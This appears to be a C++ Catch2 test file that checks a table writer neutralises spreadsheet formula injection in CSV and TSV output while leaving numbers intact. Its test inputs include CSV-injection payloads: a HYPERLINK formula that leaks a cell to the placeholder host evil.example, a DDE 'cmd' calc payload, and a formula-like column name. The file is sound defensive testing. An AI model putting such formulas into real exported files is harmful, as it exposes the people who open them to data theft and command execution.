// What a written table does when it is opened in a spreadsheet: cells that a
// spreadsheet would evaluate as a formula are neutralised (OWASP's leading
// single quote), numbers are not.

#include <catch2/catch.hpp>
#include <sstream>
#include <string>
#include <vector>

#include "mgnify/tables/table.hpp"

namespace tables = mgnify::tables;

namespace {

tables::Table one_column(const std::string& name, const std::vector<std::string>& values) {
  tables::Table t;
  t.columns = {name};
  for (const auto& v : values) t.rows.push_back({v});
  return t;
}

std::vector<std::string> lines_of(const std::string& text) {
  std::vector<std::string> lines;
  std::istringstream in(text);
  std::string line;
  while (std::getline(in, line)) lines.push_back(line);
  return lines;
}

}  // namespace

TEST_CASE("CSV and TSV neutralise submitter text that a spreadsheet would run as a formula",
          "[tables][format][formula]") {
  const std::string hyperlink = R"(=HYPERLINK("http://evil.example/?leak="&A2,"Click"))";
  const std::string dde = "@SUM(1+1)*cmd|' /C calc'!A0";
  const tables::Table t = one_column("title", {hyperlink, dde, "+cmd", "-2+3", "=1+1"});

  std::ostringstream csv;
  tables::write_csv(csv, t);
  const auto c = lines_of(csv.str());
  REQUIRE(c.size() == 6);
  CHECK(c[1] == R"x("'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")")x");
  CHECK(c[2] == "'" + dde);
  CHECK(c[3] == "'+cmd");
  CHECK(c[4] == "'-2+3");
  CHECK(c[5] == "'=1+1");

  std::ostringstream tsv;
  tables::write_tsv(tsv, t);
  const auto s = lines_of(tsv.str());
  REQUIRE(s.size() == 6);
  CHECK(s[2] == "'" + dde);
  CHECK(s[3] == "'+cmd");
  CHECK(s[4] == "'-2+3");
  CHECK(s[5] == "'=1+1");
}

TEST_CASE("a cell starting with a tab or CR is neutralised too", "[tables][format][formula]") {
  std::ostringstream csv;
  tables::write_csv(csv, one_column("x", {"\t=1+1", "\r=1+1"}));
  CHECK(csv.str() == "x\n'\t=1+1\n\"'\r=1+1\"\n");
}

TEST_CASE("numbers keep their sign: latitudes, exponents and explicit plus signs",
          "[tables][format][formula]") {
  const std::vector<std::string> numbers = {"-12.5", "+3",  "-1e-5", "0", "-0.25",
                                            "1E+10", "-.5", "7.",    "12"};
  std::ostringstream csv;
  tables::write_csv(csv, one_column("lat", numbers));
  const auto lines = lines_of(csv.str());
  REQUIRE(lines.size() == numbers.size() + 1);
  for (std::size_t i = 0; i < numbers.size(); ++i) CHECK(lines[i + 1] == numbers[i]);
}

TEST_CASE("a column name from a metadata key is neutralised like a cell",
          "[tables][format][formula]") {
  std::ostringstream tsv;
  tables::write_tsv(tsv, one_column("=cmd()", {"1"}));
  CHECK(lines_of(tsv.str()).at(0) == "'=cmd()");
}
